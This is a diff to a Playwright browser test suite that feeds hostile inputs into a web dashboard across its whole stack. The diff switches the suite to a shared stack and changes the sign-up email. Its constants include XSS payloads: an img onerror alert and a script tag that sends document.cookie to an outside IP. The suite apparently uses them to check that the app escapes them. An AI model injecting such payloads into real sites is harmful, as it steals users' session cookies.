@@ -4,15 +4,14 @@ import type { Browser, BrowserContext, Page } from 'playwright-core'
 import { listenForTrouble, openBrowser, openProfile } from './parts/browser.ts'
 import { type DashboardSession, signUp } from './parts/dashboard-session.ts'
 import { makeTemplate, openEditor } from './parts/editor-page.ts'
-import { htmlTemplate, type Stack, startStack } from './parts/stack.ts'
+import { htmlTemplate, type SharedStack, shareStack } from './parts/stack.ts'
 
 const elsewhere = 'http://198.51.100.7'
 const hostile = '<img src=x onerror=alert(1)>'
 const script = `<script>fetch('${elsewhere}/?'+document.cookie);alert(2)</script>`
 
-describe('hostile names, data and files, in a browser against the whole stack', function () {
-  this.timeout(60_000)
-  let stack: Stack
+describe('hostile names, data and files, in a browser against the whole stack', () => {
+  let stack: SharedStack
   let browser: Browser
   let session: DashboardSession
   let profile: BrowserContext
@@ -21,8 +20,8 @@ describe('hostile names, data and files, in a browser against the whole stack', 
   let harm: string[]
 
   before(async () => {
-    ;[stack, browser] = await Promise.all([startStack(), openBrowser()])
-    session = await signUp(stack, { email: 'author@example.com', name: hostile })
+    ;[stack, browser] = await Promise.all([shareStack(), openBrowser()])
+    session = await signUp(stack, { email: 'author@hostile.example.com', name: hostile })
     profile = await openProfile(browser, stack, session)
     profile.on('request', (request) => {
       const url = request.url()
